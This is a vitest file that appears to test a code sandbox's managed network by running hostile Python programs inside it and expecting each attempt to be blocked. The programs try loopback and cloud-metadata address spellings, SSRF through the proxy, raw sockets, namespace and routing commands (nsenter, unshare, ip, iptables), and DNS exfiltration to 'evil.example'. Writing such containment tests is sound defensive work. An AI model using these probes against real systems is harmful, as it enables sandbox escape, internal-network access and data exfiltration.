// A hostile program in a managed network: what it tries is held, and the network goes on for the others.

import { type ChildProcess, fork } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer, type Server } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import type { ExecProcess, NetworkSpec, ProcessSpec } from "@codex/exec-backend";
import { createCommandSandbox } from "@codex/sandbox";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { outputOf, untilOutput, useBackend } from "./support.js";

const support = await createCommandSandbox().getSupport();
const has = (name: string) => ["/usr/bin", "/bin"].some((directory) => existsSync(join(directory, name)));
const isPossible = support.kind === "bubblewrap" && ["nsenter", "python3"].every(has);

describe.runIf(isPossible)("a hostile program in a managed network", () => {
  const { run } = useBackend();
  /** All that anything of this host was asked, which must stay empty but for what is allowed. */
  const reached: string[] = [];
  const web = createHttpServer((request, response) => {
    reached.push(`web ${request.headers.host}`);
    response.end("hello\n");
  });
  const own: Server = createServer((socket) => {
    reached.push("all interfaces");
    socket.destroy();
  });
  let port = 0;
  let ownPort = 0;
  beforeAll(async () => {
    await new Promise<void>((resolve) => web.listen(0, "127.0.0.1", resolve));
    await new Promise<void>((resolve) => own.listen(0, "::", resolve));
    [port, ownPort] = [web, own].map((server) => (server.address() as AddressInfo).port) as [number, number];
  });
  afterAll(() => {
    web.close();
    own.close();
  });

  const network = (scope: string): NetworkSpec => ({
    scope,
    policy: {
      rules: [{ pattern: `host.internal:${port}`, decision: "allow" }],
      mode: "full",
      allowLocalBinding: false,
    },
  });
  /** Runs a program of Python; `proxy` is the address of its proxy, `get(target)` what a GET through it answers first. */
  const start = async (scope: string, program: string, more: Partial<ProcessSpec> = {}): Promise<ExecProcess> => {
    const cwd = realpathSync(mkdtempSync(join(tmpdir(), "codex-attack-")));
    onTestFinished(() => rmSync(cwd, { recursive: true, force: true }));
    const file = join(cwd, "program.py");
    writeFileSync(file, PRELUDE + program);
    const entries = [{ path: { type: "path" as const, path: "/" }, access: "read" as const }];
    return run(["/usr/bin/python3", "-u", file], {
      cwd,
      env: { PATH: "/usr/bin:/bin", LC_ALL: "C.UTF-8", PORT: `${port}`, OWN_PORT: `${ownPort}` },
      sandbox: {
        permissions: { type: "managed", network: "restricted", file_system: { type: "restricted", entries } },
      },
      network: network(scope),
      ...more,
    });
  };
  const attack = async (scope: string, program: string) => {
    reached.length = 0;
    const process = await start(scope, program);
    const output = await outputOf(process);
    return { output, denied: process.network?.denied ?? [], omitted: process.network?.omitted };
  };

  it("reaches no address of this host in any spelling, through the proxy or past it", async () => {
    const interfaces = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
    const addresses = interfaces.filter(({ internal }) => !internal).map(({ address }) => address.replace(/%.*/s, ""));
    const spelled = [
      ...["127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0", "0.0.0.0", "[::1]", "[::]", "localhost"],
      ...["localhost.", "LOCALHOST", "a.localhost", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]"],
      ...[
        "[64:ff9b::7f00:1]",
        "[64:ff9b:1::7f00:1]",
        "[2002:7f00:1::]",
        "[fe80::1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
      ],
      ...addresses.map((address) => (address.includes(":") ? `[${address}]` : address)),
    ];
    const { output, denied } = await attack(
      "spellings",
      `
for name in ${JSON.stringify(spelled)}:
  for port in (PORT, OWN_PORT):
    answers = [get(f"{name}:{port}"), connect_through(f"{name}:{port}"), socks(name.strip("[]"), port)]
    if any(not answer.startswith(("HTTP/1.1 4", "refused")) for answer in answers): print("THROUGH", name, answers)
    try:
      family, kind, _, _, place = socket.getaddrinfo(name.strip("[]"), port, type=socket.SOCK_STREAM)[0]
      s = socket.socket(family, kind); s.settimeout(5); s.connect(place); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
      if s.recv(99): print("PAST", name)
    except OSError: pass
print("end")`,
    );
    expect({ output, reached }).toEqual({ output: "end\n", reached: [] });
    expect(denied.map(({ reason }) => reason)).toContain("not_allowed_local");
    expect(denied.filter(({ reason }) => !/^(not_allowed(_local)?|looked_up)$/.test(reason))).toEqual([]);
  });

  it("reaches its host neither by UDP nor raw, nor by a socket with a path or an abstract name", async () => {
    const directory = realpathSync(mkdtempSync(join(tmpdir(), "codex-sockets-")));
    onTestFinished(() => rmSync(directory, { recursive: true, force: true }));
    const path = join(directory, "socket");
    const local = createServer(() => reached.push("a path")).listen(path);
    const datagrams = createSocket("udp4", () => reached.push("a datagram"));
    await new Promise<void>((resolve) => datagrams.bind(0, "0.0.0.0", () => resolve()));
    onTestFinished(() => {
      local.close();
      datagrams.close();
    });
    const { output } = await attack(
      "sockets",
      `
def attempt(name, act):
  try: act(); print("THROUGH", name)
  except OSError as error: pass
for address in ("127.0.0.1", "192.0.2.1", ${JSON.stringify(firstAddress())}):
  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(0.2)
  try: u.sendto(b"x", (address, ${datagrams.address().port}))
  except OSError: pass
for name, args in {"raw": (socket.AF_INET, socket.SOCK_RAW, 1), "raw 6": (socket.AF_INET6, socket.SOCK_RAW, 58),
  "packet": (socket.AF_PACKET, socket.SOCK_RAW, 3), "unix": (socket.AF_UNIX, socket.SOCK_STREAM, 0), "vsock": (40, socket.SOCK_STREAM, 0),
  "unix datagram": (socket.AF_UNIX, socket.SOCK_DGRAM, 0)}.items(): attempt(name, lambda: socket.socket(*args))
print("end")`,
    );
    expect({ output, reached }).toEqual({ output: "end\n", reached: [] });
  });

  it("takes no port of the proxy, of the names, or of the places of hosts, and changes nothing of its network", async () => {
    const { output } = await attack(
      "listeners",
      `
import subprocess
get_ok = lambda: get(f"host.internal:{PORT}").startswith("HTTP/1.1 200")
assert get_ok()
name = socket.gethostbyname("host.internal"); other = socket.gethostbyname("other.example")
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
  for place in ((proxy, 3128), ("0.0.0.0", 3128), ("127.77.0.200", 3128), (name, 443), (other, 80), (name, PORT), ("0.0.0.0", 53), ("127.0.0.53", 53), ("0.0.0.0", 80)):
    if kind == socket.SOCK_DGRAM and place[1] != 53: continue
    if kind == socket.SOCK_STREAM and place[1] == 53: continue
    for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
      s = socket.socket(socket.AF_INET, kind)
      if option: s.setsockopt(socket.SOL_SOCKET, option, 1)
      try: s.bind(place); s.listen() if kind == socket.SOCK_STREAM else None; print("TAKEN", place, option)
      except OSError: pass
for command in (["ip", "link", "set", "lo", "down"], ["ip", "addr", "add", "10.9.9.9/32", "dev", "lo"], ["ip", "route", "add", "default", "dev", "lo"],
  ["unshare", "-n", "true"], ["unshare", "-Un", "true"], ["nsenter", "-t", "1", "-n", "true"], ["mount", "--bind", "/dev/null", "/etc/resolv.conf"], ["iptables", "-L"]):
  try:
    if subprocess.run(command, capture_output=True).returncode == 0: print("DONE", command)
  except OSError: pass
assert get_ok()
print("end")`,
    );
    expect(output).toBe("end\n");
  });

  it("does not reach another session by the address of its proxy, nor more than its policy by that of another process", async () => {
    const other = await start("one", `print(proxy, flush=True)\nimport time; time.sleep(600)`);
    const address = (await untilOutput(other, "\n")).trim();
    const program = `
for address in (${JSON.stringify(address)}, "127.77.0.250"):
  print(get(f"host.internal:{PORT}", address)[:12], get("other.example:80", address)[:12], get(f"127.0.0.1:{PORT}", address)[:12])`;
    const shared = await attack("one", program);
    expect(shared.output).toBe("HTTP/1.1 200 HTTP/1.1 403 HTTP/1.1 403\n".repeat(2));
    expect(new Set(reached)).toEqual(new Set([`web host.internal:${port}`]));
    await other.terminate({ graceMs: 0 });
  });

  it("carries nothing out in the names that it looks up", async () => {
    const { output, denied, omitted } = await attack(
      "names",
      `
import struct
def query(name, kind):
  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
  question = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\\0" + struct.pack(">HH", kind, 1)
  u.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + question, ("127.0.0.1", 53))
  try: return u.recv(2000)
  except OSError: return b""
for kind in (1, 2, 5, 15, 16, 28, 33, 65, 255):
  answer = query("c2VjcmV0.evil.example", kind)
  if kind != 1 and (len(answer) < 12 or answer[7] != 0): print("ANSWERED", kind, answer)
codes = [query(f"n{index}.evil.example", 1)[3] & 15 for index in range(10_000)]
print(codes.count(0), codes.count(2), get(f"host.internal:{PORT}")[:12])`,
    );
    // Each session has 4,096 names, of which one was looked up before, and one is that of the rule.
    expect(output).toBe("4094 5906 HTTP/1.1 200\n");
    expect(denied.length).toBeLessThanOrEqual(100);
    expect(omitted! + denied.length).toBe(4_095);
  });

  it("has 1,024 connections at once and no more, and new ones once they are closed", { timeout: 60_000 }, async () => {
    const { output } = await attack(
      "flood",
      `
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
def tunnel():
  s = socket.create_connection((proxy, 3128)); s.sendall(f"CONNECT host.internal:{PORT} HTTP/1.1\\r\\n\\r\\n".encode()); return s
def count(all):
  heads = [s.recv(13)[9:12] for s in all]; return {code.decode(): heads.count(code) for code in sorted(set(heads))}
first = [tunnel() for _ in range(2000)]
print(count(first))
for s in first: s.close()
import time
for _ in range(100):
  code = get(f"host.internal:{PORT}")[9:12]
  if code == "200": break
  time.sleep(0.1)
print(code)`,
    );
    expect(output).toBe("{'200': 1024, '503': 976}\n200\n");
  });

  it("is refused at once when the executor is killed, and nothing of its network is left", async () => {
    const cwd = realpathSync(mkdtempSync(join(tmpdir(), "codex-killed-")));
    onTestFinished(() => rmSync(cwd, { recursive: true, force: true }));
    const program = join(cwd, "program.py");
    const mark = `codex-network-mark-${process.pid}`;
    writeFileSync(
      program,
      `${PRELUDE}\nprint("started", get(f"host.internal:{PORT}")[:12], flush=True)\nimport time; time.sleep(600)`,
    );
    const host = join(cwd, "host.mjs");
    const spec = {
      argv: ["/usr/bin/python3", "-u", program, mark],
      cwd,
      env: { PATH: "/usr/bin:/bin", PORT: `${port}`, OWN_PORT: "1" },
      stdio: { kind: "pipe", stdin: "null" },
      sandbox: {
        permissions: {
          type: "managed",
          network: "restricted",
          file_system: { type: "restricted", entries: [{ path: { type: "path", path: "/" }, access: "read" }] },
        },
      },
      network: network("killed"),
    };
    writeFileSync(
      host,
      `import { createLocalBackend } from ${JSON.stringify(import.meta.resolve("@codex/process-host"))};
const process_ = await createLocalBackend().start(${JSON.stringify(spec)});
await process_.log.waitFor(0);
process.send("started");`,
    );
    const child: ChildProcess = fork(host, { stdio: "ignore" });
    await once(child, "message");
    expect(countProcesses(mark)).toBeGreaterThan(0);
    child.kill("SIGKILL");
    await expect.poll(() => countProcesses(mark), { timeout: 10_000 }).toBe(0);
  });
});

const PRELUDE = `import os, socket
PORT, OWN_PORT = int(os.environ["PORT"]), int(os.environ["OWN_PORT"])
proxy = os.environ["HTTP_PROXY"][7:].split(":")[0]
def exchange(address, data):
  try:
    s = socket.create_connection((address, 3128), 15); s.sendall(data); return s.recv(4000).decode("latin1") or "refused: closed"
  except OSError as error: return f"refused: {error}"
def get(target, address=None): return exchange(address or proxy, f"GET http://{target}/ HTTP/1.1\\r\\nHost: {target}\\r\\nConnection: close\\r\\n\\r\\n".encode())
def connect_through(target): return exchange(proxy, f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
def socks(name, port):
  s = socket.create_connection((proxy, 3128), 15)
  s.sendall(b"\\5\\1\\0\\5\\1\\0\\3" + bytes([len(name)]) + name.encode() + port.to_bytes(2, "big")); s.recv(2)
  answer = s.recv(99)
  return "refused" if len(answer) < 2 or answer[1] else "HTTP/1.1 200"
`;

/** The first address of this host that is not loopback, else loopback. */
function firstAddress(): string {
  const all = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
  return all.find(({ internal, family }) => !internal && family === "IPv4")?.address ?? "127.0.0.1";
}

/** Processes of this host, those in sandboxes included. */
const countProcesses = (mark: string): number =>
  readdirSync("/proc").filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(mark);
    } catch {
      return false;
    }
  }).length;
